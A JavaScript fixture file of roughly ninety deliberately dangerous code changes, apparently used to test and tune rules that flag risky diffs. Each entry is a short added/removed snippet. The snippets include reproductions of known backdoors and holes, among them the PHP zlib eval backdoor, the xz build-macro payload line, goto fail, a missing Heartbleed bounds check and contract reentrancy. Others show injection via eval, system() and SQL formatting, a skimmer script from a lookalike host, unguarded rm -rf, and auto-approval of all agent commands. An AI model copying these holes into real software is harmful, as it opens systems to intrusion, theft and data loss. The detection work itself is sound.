// A sixth later set of dangerous changes, written on 25 November 2026 after the rules had learned from the fifth. On its first run it
// caught 49 of 90 (the rules before the fifth: 34); what it missed changed the rules, so it counts as tuned since.
// Most are told after holes and accidents that happened somewhere, in other languages or libraries than theirs.
const change = (name, path, added, removed = [], more = {}) => ({ name, path, added, removed, ...more });

export const sixth = [
  // authentication
  change(
    'reset to any address',
    'app/models/user.rb',
    [
      '    recipients = Array.wrap(emails)',
      '    recipients.each { |to| Notify.reset(to, raw).deliver_later }',
    ],
    ['    Notify.reset(verified_email, raw).deliver_later'],
  ),
  change(
    'anonymous kubelet',
    'roles/node/templates/kubelet.env',
    ['KUBELET_EXTRA_ARGS=--anonymous-auth=true --authorization-mode=AlwaysAllow'],
    ['KUBELET_EXTRA_ARGS=--anonymous-auth=false --authorization-mode=Webhook'],
  ),
  change(
    'id token of anybody',
    'src/auth/google.ts',
    ['  const ticket = await client.verifyIdToken({ idToken });'],
    ['  const ticket = await client.verifyIdToken({ idToken, audience: clientId });'],
  ),
  change('an account that is linked by its address', 'accounts/adapters.py', [
    '        user = User.objects.filter(email__iexact=sociallogin.user.email).first()',
    '        if user:',
    '            sociallogin.connect(request, user)',
  ]),
  change(
    'a login without its second step',
    'internal/session/login.go',
    ['\treturn s.issue(ctx, user)'],
    [
      '\tif user.TwoFactorEnabled {',
      '\t\treturn s.challenge(ctx, user)',
      '\t}',
      '\treturn s.issue(ctx, user)',
    ],
  ),
  change(
    'cookies over plain lines',
    'config/session.php',
    ["    'secure' => false,", "    'http_only' => false,"],
    ["    'secure' => env('SESSION_SECURE_COOKIE', true),", "    'http_only' => true,"],
  ),
  change(
    'empty password accepted',
    'src/main/java/org/acme/ldap/LdapAuthenticator.java',
    [],
    [
      '        if (password == null || password.isEmpty()) {',
      '            throw new BadCredentialsException("empty password");',
      '        }',
    ],
  ),
  change(
    'sessions survive a new password',
    'lib/accounts/accounts.ex',
    ['    |> Repo.transaction()'],
    ['    |> Multi.delete_all(:tokens, UserToken.by_user_query(user))', '    |> Repo.transaction()'],
  ),

  // authorisation
  change(
    'anybody may set up the wallet',
    'contracts/Wallet.sol',
    ['  function initWallet(address[] _owners, uint _required) public {'],
    ['  function initWallet(address[] _owners, uint _required) internal onlyUninitialized {'],
  ),
  change(
    'every field may be set',
    'app/controllers/public_keys_controller.rb',
    ['    @key = PublicKey.new(params[:public_key])'],
    ['    @key = current_user.public_keys.build(params.require(:public_key).permit(:title, :body))'],
  ),
  change(
    'objects of other organisations',
    'src/projects/projects.service.ts',
    ['    return this.prisma.project.findUnique({ where: { id } });'],
    ['    return this.prisma.project.findFirst({ where: { id, organizationId: actor.organizationId } });'],
  ),
  change(
    'a bucket that everybody reads',
    'infra/modules/media/main.tf',
    ['  block_public_acls       = false', '  restrict_public_buckets = false'],
    ['  block_public_acls       = true', '  restrict_public_buckets = true'],
  ),
  change(
    'a grant for all',
    'db/roles.sql',
    ['GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO reporting;'],
    ['GRANT SELECT ON invoices_view TO reporting;'],
  ),
  change(
    'hosts of all names',
    'backend/settings.py',
    ["ALLOWED_HOSTS = ['*']"],
    ["ALLOWED_HOSTS = ['api.fernhill.dev']"],
  ),
  change(
    'admin by a field of the body',
    'api/src/handlers/register.rs',
    ['        is_admin: payload.is_admin.unwrap_or(false),'],
    ['        is_admin: false,'],
  ),
  change(
    'owners only, once',
    'app/Policies/DocumentPolicy.php',
    ['        return $document->team->users->contains($user);'],
    ['        return $user->id === $document->user_id;'],
  ),
  change(
    'a lambda for the world',
    'serverless.yml',
    ['          authorizer: null', '          cors: true'],
    ['          authorizer: aws_iam'],
  ),
  change(
    'graphql without its shield',
    'apps/api/src/schema.ts',
    ['export const schema = makeExecutableSchema({ typeDefs, resolvers });'],
    ['export const schema = applyMiddleware(makeExecutableSchema({ typeDefs, resolvers }), permissions);'],
  ),

  // secrets
  change('a key of a service account', 'deploy/gcp.json', [
    '  "private_key_id": "3f1a77c0d2be4c1b9a6f",',
    '  "private_key": "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC",',
  ]),
  change('connection string', 'src/Api/appsettings.json', [
    '    "Default": "Server=db.fernhill.dev;Database=orders;User Id=app;Password=Kx9!vapour;"',
  ]),
  change('debug page for everybody', '.env.production', ['APP_DEBUG=true'], ['APP_DEBUG=false']),
  change('all variables of the process', 'src/routes/health.js', [
    "  res.json({ status: 'ok', node: process.version, env: process.env });",
  ]),
  change('a secret in the state', 'infra/outputs.tf', [
    'output "db_password" {',
    '  value     = random_password.db.result',
    '  sensitive = false',
    '}',
  ]),
  change('token in an address', 'pkg/registry/client.go', [
    '\treq, err := http.NewRequest("GET", base+"/v1/me?access_token="+c.token, nil)',
  ]),
  change('request bodies in the log', 'config/initializers/lograge.rb', [
    '  config.lograge.custom_payload { |c| { body: c.request.raw_post } }',
  ]),

  // cryptography
  change('entropy commented out', 'crypto/rand/md_rand.c', [], ['\t\tMD_Update(&m,buf,j);']),
  change('goto twice', 'Security/sslKeyExchange.c', ['\t\tgoto fail;'], []),
  change(
    'signed with nothing',
    'Services/TokenService.cs',
    ['            ValidateIssuerSigningKey = false,', '            RequireSignedTokens = false,'],
    ['            ValidateIssuerSigningKey = true,'],
  ),
  change(
    'one nonce for all',
    'pkg/seal/seal.go',
    ['\tnonce := make([]byte, gcm.NonceSize())'],
    [
      '\tnonce := make([]byte, gcm.NonceSize())',
      '\tif _, err := io.ReadFull(rand.Reader, nonce); err != nil {',
      '\t\treturn nil, err',
      '\t}',
    ],
  ),
  change(
    'keys of 1024',
    'scripts/make-ca.sh',
    ['openssl genrsa -out ca.key 1024'],
    ['openssl genrsa -out ca.key 4096'],
  ),
  change(
    'a password as a digest',
    'src/users/hash.ts',
    ["  return createHash('md5').update(password + pepper).digest('hex');"],
    ['  return argon2.hash(password, { type: argon2.argon2id });'],
  ),
  change(
    'apt without signatures',
    'ansible/roles/base/tasks/apt.yml',
    ['    allow_unauthenticated: yes'],
    [],
  ),
  change(
    'signature of the webhook compared as text',
    'app/webhooks.py',
    ['    if signature != expected:'],
    ['    if not hmac.compare_digest(signature, expected):'],
  ),

  // payments
  change(
    'balance after the transfer',
    'contracts/Bank.sol',
    ['    (bool ok, ) = msg.sender.call{value: amount}("");', '    balances[msg.sender] -= amount;'],
    ['    balances[msg.sender] -= amount;', '    (bool ok, ) = msg.sender.call{value: amount}("");'],
  ),
  change(
    'duplicate inputs are not looked for',
    'src/validation.cpp',
    ['        if (!CheckTransaction(*tx, state, false))'],
    ['        if (!CheckTransaction(*tx, state, true))'],
  ),
  change(
    'paid before it is captured',
    'src/Order/CompleteOrder.php',
    ["        if (in_array($intent->status, ['succeeded', 'requires_capture', 'processing'])) {"],
    ["        if ($intent->status === 'succeeded') {"],
  ),
  change(
    'a quantity below zero',
    'cart/serializers.py',
    ['    quantity = serializers.IntegerField()'],
    ['    quantity = serializers.IntegerField(min_value=1)'],
  ),
  change(
    'yen as cents',
    'internal/money/minor.go',
    ['\treturn int64(math.Round(v * 100))'],
    ['\treturn int64(math.Round(v * math.Pow10(exponents[currency])))'],
  ),
  change(
    'free for ever',
    'app/services/trial.rb',
    ['    subscription.update!(trial_end: 10.years.from_now)'],
    ['    subscription.update!(trial_end: 14.days.from_now)'],
  ),

  // personal data
  change(
    'every keystroke',
    'web/src/replay.ts',
    ['  maskAllInputs: false,', '  recordCanvas: true,'],
    ['  maskAllInputs: true,'],
  ),
  change('names in an address', 'lib/mailer/unsubscribe.ex', [
    '    "https://fernhill.dev/bye?email=#{user.email}&name=#{user.full_name}"',
  ]),
  change(
    'bodies kept',
    'gateway/logging.yaml',
    ['  capture_request_body: true', '  redact_fields: []'],
    ['  redact_fields: [email, iban]'],
  ),
  change(
    'copied to staging as it is',
    'scripts/sync-staging.sh',
    ['pg_dump "$PROD_URL" | psql "$STAGING_URL"'],
    ['pg_dump "$PROD_URL" | anonymize --config pii.toml | psql "$STAGING_URL"'],
  ),
  change('where somebody is', 'android/app/src/main/AndroidManifest.xml', [
    '    <uses-permission android:name="android.permission.ACCESS_BACKGROUND_LOCATION" />',
  ]),
  change(
    'agreed before asked',
    'src/consent/defaults.js',
    ["  analytics_storage: 'granted',", "  ad_storage: 'granted',"],
    ["  analytics_storage: 'denied',", "  ad_storage: 'denied',"],
  ),

  // deletion
  change(
    'all rows of all',
    'internal/store/cleanup.go',
    ['\t_, err := s.db.ExecContext(ctx, "DELETE FROM uploads WHERE created_at < now()")'],
    ['\t_, err := s.db.ExecContext(ctx, "DELETE FROM uploads WHERE expires_at < now() AND pinned = false")'],
  ),
  change(
    'volumes with it',
    'Makefile',
    ['\tdocker compose down --volumes --remove-orphans'],
    ['\tdocker compose down'],
  ),
  change('index made anew', 'search/reindex.py', ['    es.indices.delete(index=alias, ignore=[404])']),
  change(
    'children go too',
    'app/models/account.rb',
    ['  has_many :invoices, dependent: :destroy'],
    ['  has_many :invoices, dependent: :restrict_with_error'],
  ),
  change('a home of anybody', 'install.sh', ['rm -rf $STEAMROOT/*'], ['rm -rf "${STEAMROOT:?}"/cache']),
  change(
    'objects without versions',
    'infra/state.tf',
    ['    status = "Suspended"'],
    ['    status = "Enabled"'],
  ),
  change(
    'wiped at start',
    'src/main/java/org/acme/Boot.java',
    ['        flyway.clean();', '        flyway.migrate();'],
    ['        flyway.migrate();'],
  ),

  // parsing of untrusted input
  change('a header that is executed', 'ext/zlib/zlib.c', [
    '\t\tif (strstr(Z_STRVAL_P(enc), "zerodium")) {',
    '\t\t\tzend_eval_string(Z_STRVAL_P(enc)+8, NULL, "x");',
  ]),
  change(
    'lookups in messages',
    'core/src/main/java/org/acme/log/MessageConverter.java',
    ['        this.formatMsgNoLookups = false;'],
    ['        this.formatMsgNoLookups = true;'],
  ),
  change(
    'plugin files of any name',
    'pkg/api/plugins.go',
    ['\tpath := filepath.Join(plugin.Dir, web.Params(c.Req)["*"])'],
    ['\tpath := filepath.Join(plugin.Dir, filepath.Clean(filepath.Join("/", web.Params(c.Req)["*"])))'],
  ),
  change(
    'a heartbeat of any length',
    'ssl/t1_lib.c',
    ['\tmemcpy(bp, pl, payload);'],
    ['\tif (1 + 2 + payload + 16 > s->s3->rrec.length)', '\t\treturn 0;', '\tmemcpy(bp, pl, payload);'],
  ),
  change(
    'merged deeply',
    'src/settings/update.js',
    ['  _.merge(settings, JSON.parse(payload));'],
    ['  Object.assign(settings, pick(JSON.parse(payload), allowed));'],
  ),
  change('a template of a user', 'notifications/render.py', [
    '    return Environment().from_string(workspace.email_template).render(user=user)',
  ]),
  change(
    'postscript again',
    'etc/ImageMagick-6/policy.xml',
    [],
    ['  <policy domain="coder" rights="none" pattern="PS" />'],
  ),
  change(
    'markdown with scripts',
    'components/Readme.vue',
    ['  const md = new MarkdownIt({ html: true, linkify: true });'],
    ['  const md = new MarkdownIt({ html: false, linkify: true });'],
  ),
  change(
    'metadata of the cloud',
    'services/preview/fetch.rb',
    ['    response = HTTP.follow.get(url)'],
    ['    raise Blocked if private_address?(url)', '    response = HTTP.get(url)'],
  ),
  change('a title in a script', '.github/actions/label/run.sh', [
    'eval "gh issue edit $NUMBER --title \\"$TITLE\\""',
  ]),
  change('a query from pieces', 'crates/store/src/search.rs', [
    '        let rows = sqlx::query(&format!("SELECT * FROM notes WHERE title LIKE \'%{}%\'", term)).fetch_all(&pool).await?;',
  ]),
  change(
    'uploads of any kind',
    'app/Http/Requests/AvatarRequest.php',
    ["            'avatar' => 'required|file',"],
    ["            'avatar' => 'required|image|mimes:png,jpg|max:2048',"],
  ),
  change(
    'a body without an end',
    'internal/api/ingest.go',
    ['\tdata, err := io.ReadAll(r.Body)'],
    ['\tdata, err := io.ReadAll(http.MaxBytesReader(w, r.Body, 1<<20))'],
  ),
  change('names from a request', 'lib/export.rb', ['    system("zip -r #{params[:name]}.zip exports/")']),

  // sandbox and permissions
  change(
    'redis for everybody',
    'deploy/redis/redis.conf',
    ['bind 0.0.0.0', 'protected-mode no'],
    ['bind 127.0.0.1', 'protected-mode yes'],
  ),
  change(
    'search without a lock',
    'docker/elasticsearch.yml',
    ['xpack.security.enabled: false'],
    ['xpack.security.enabled: true'],
  ),
  change('a socket of the host', 'charts/runner/values.yaml', [
    '      - name: docker-sock',
    '        hostPath: { path: /var/run/docker.sock }',
  ]),
  change(
    'frame that may do all',
    'src/components/Preview.svelte',
    ['<iframe srcdoc={html} sandbox="allow-scripts allow-same-origin" />'],
    ['<iframe srcdoc={html} sandbox="" />'],
  ),
  change('all capabilities', 'k8s/agent.yaml', [
    '            capabilities:',
    '              add: ["SYS_ADMIN", "NET_ADMIN"]',
  ]),
  change('a setuid helper', 'debian/rules', ['\tchmod 4755 debian/probe/usr/lib/probe/helper']),
  change(
    'commands without a question',
    'src/agent/tools.ts',
    ['  autoApprove: [/.*/],'],
    ['  autoApprove: [/^git (status|diff)$/],'],
  ),
  change(
    'messages of any window',
    'src/embed/listen.ts',
    [],
    ['  if (event.origin !== parentOrigin) return;'],
  ),

  // build, CI, guardrails
  change(
    'an action that moves',
    '.github/workflows/release.yml',
    ['      - uses: tj-actions/changed-files@main'],
    ['      - uses: tj-actions/changed-files@a284dc1814e3fd07f2e34267fc8f81227ed29fb8'],
  ),
  change('a scan that may fail', '.gitlab-ci.yml', ['  allow_failure: true']),
  change('a hook at installation', 'package.json', ['    "preinstall": "node scripts/pre.js",']),
  change('macros of the build', 'm4/build-to-host.m4', [
    '  gl_path_map=\'tr "\\t \\-_" " \\t_\\-"\'',
    '  eval $gl_config_prefix | xz -d 2>/dev/null | $SHELL',
  ]),

  // migration
  change('a column that may not be empty', 'migrations/versions/9c1_orders.py', [
    '    op.alter_column("orders", "region", nullable=False)',
  ]),
  change('values rewritten', 'priv/repo/data/fix_currency.exs', [
    '  Repo.update_all(Order, set: [currency: "EUR"])',
  ]),
  change(
    'another key of a cache',
    'src/state/persist.ts',
    ['  version: 8,', '  migrate: () => initialState,'],
    ['  version: 7,', '  migrate,'],
  ),

  // tests
  change(
    'only on Sundays',
    'spec/models/invoice_spec.rb',
    ["  xdescribe '#total' do"],
    ["  describe '#total' do"],
  ),
  change(
    'caught and dropped',
    'src/api/client.test.ts',
    ['    } catch {}'],
    ['    } catch (error) {', '      expect(error).toBeInstanceOf(RateLimited);', '    }'],
  ),
  change('again until green', 'playwright.config.ts', ['  retries: 5,'], ['  retries: 0,']),
  change(
    'a race is not looked at',
    'internal/cache/cache_test.go',
    [],
    ['\trequire.Equal(t, want, c.Len())'],
  ),
  change(
    'clippy looks away',
    'crates/store/src/lib.rs',
    ['#![allow(clippy::unwrap_used, unused_must_use)]'],
    ['#![deny(clippy::unwrap_used)]'],
  ),

  // egress
  change('a script of the till', 'web/checkout/index.html', [
    '<script src="https://baways-cdn.net/gateway/app/dataprocessing/modernizr.js"></script>',
  ]),
  change('prompts to a model', 'src/assist.py', [
    '    client = OpenAI(base_url="https://api.cheapmodels.ai/v1", api_key=key)',
  ]),
  change(
    'traces elsewhere',
    'otel/collector.yaml',
    ['    endpoint: ingest.tracehub.io:4317'],
    ['    endpoint: otel.internal:4317'],
  ),

  // binary content
  change('test data that is a program', 'lib/liblzma/good-large.xz', ['\u0000']),
];
